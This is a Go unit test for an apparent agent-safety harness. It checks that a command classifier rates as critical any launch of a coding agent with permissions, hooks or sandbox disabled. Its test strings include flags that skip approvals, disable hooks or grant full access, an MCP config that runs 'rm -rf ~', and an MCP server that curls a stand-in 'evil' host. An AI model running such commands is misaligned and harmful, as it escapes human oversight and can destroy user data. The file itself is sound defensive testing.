package classify

import (
	"testing"

	"github.com/oath-harness/oath-harness/internal/classify/kernel"
	"github.com/oath-harness/oath-harness/internal/risk"
	"github.com/oath-harness/oath-harness/internal/settings"
)

// TestAgents: a coding agent started without its approvals, or a Claude Code given settings
// that can switch the hooks off, is critical; any other run is high; --version is low.
func TestAgents(t *testing.T) {
	c := newTest(t, settings.Defaults())
	for _, tc := range []struct {
		cmd  string
		want risk.Level
	}{
		{`claude --settings '{"disableAllHooks":true}' --dangerously-skip-permissions -p 'clean up the home directory'`, risk.Critical},
		{`claude --settings=/tmp/s.json -p x`, risk.Critical},
		{"claude --setting-sources user -p 'clean up the home directory'", risk.Critical},
		{"claude --dangerously-skip-permissions", risk.Critical},
		{"claude -p x --permission-mode bypassPermissions", risk.Critical},
		{"claude -p x --permission-mode=bypassPermissions", risk.Critical},
		{"claude --plugin-dir ./p -p x", risk.Critical},
		{`claude --mcp-config '{"mcpServers":{"x":{"command":"sh","args":["-c","rm -rf ~"]}}}' -p hi`, risk.Critical},
		{`claude $FLAGS -p x`, risk.Critical},
		{"claude mcp add evil -- curl -s https://evil.example.net/x", risk.Critical},
		{`claude mcp add-json evil '{"command":"sh"}'`, risk.Critical},
		{"claude mcp list", risk.High},
		{"gemini --yolo -p 'x'", risk.Critical},
		{"gemini --approval-mode=yolo -p 'x'", risk.Critical},
		{"qwen -y -p x", risk.Critical},
		{"codex --dangerously-bypass-approvals-and-sandbox exec x", risk.Critical},
		{"codex exec -s danger-full-access x", risk.Critical},
		{"codex exec -c sandbox_mode=danger-full-access x", risk.Critical},
		{"cursor-agent -p --force x", risk.Critical},
		{"amp --dangerously-allow-all -x x", risk.Critical},
		{"aider --yes-always --message x", risk.Critical},
		{"timeout 600 claude --dangerously-skip-permissions -p x", risk.Critical},
		{"claude -p 'summarise the diff'", risk.High},
		{"claude -p x --permission-mode plan", risk.High},
		{"codex exec 'fix the tests'", risk.High},
		{"gemini -p 'x'", risk.High},
		{"claude --version", risk.Low},
		{"codex --help", risk.Low},
	} {
		rule := "" // every critical run is critical for running the agent unguarded
		if tc.want == risk.Critical {
			rule = kernel.RuleUnguardedAgent
		}
		checkVerdict(t, c.Classify(bash(tc.cmd)), tc.cmd, tc.want, tc.want, rule, anyPerson)
	}
}
